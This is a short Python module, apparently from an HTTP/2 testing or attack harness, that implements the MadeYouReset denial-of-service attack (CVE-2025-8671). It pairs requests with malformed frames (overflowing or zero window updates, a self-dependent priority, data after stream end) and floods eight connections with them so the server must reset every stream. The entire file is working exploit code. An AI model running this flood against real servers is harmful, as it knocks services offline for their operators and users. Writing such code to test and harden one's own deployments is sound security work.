"""Streams that the server has to reset because of what the client sends on them
(CVE-2025-8671, MadeYouReset): windows that overflow or grow by 0, a priority that depends
on itself, data after the end."""

import struct
from itertools import cycle

import frames
from attack import Attack

ATTACK = Attack(configurations=("deployments", "static"))
WRONGS = [
    lambda stream: frames.window_update(stream, 0x7FFFFFFF),
    lambda stream: frames.window_update(stream, 0),
    lambda stream: frames.frame(frames.PRIORITY, stream=stream, payload=struct.pack(">IB", stream, 1)),
    lambda stream: frames.frame(frames.DATA, stream=stream, payload=b"late"),
]


async def run(target):
    head = frames.head(b"/slow")
    kinds = cycle(WRONGS)

    def batches():
        # One kind for a connection: one of them may be taken as an error of all of it.
        wrong = next(kinds)
        for first in range(1, 1 << 24, 100):
            yield b"".join(frames.request(stream, head) + wrong(stream)
                           for stream in range(first, first + 100, 2))

    return await target.flood(8, frames.opening(), batches)
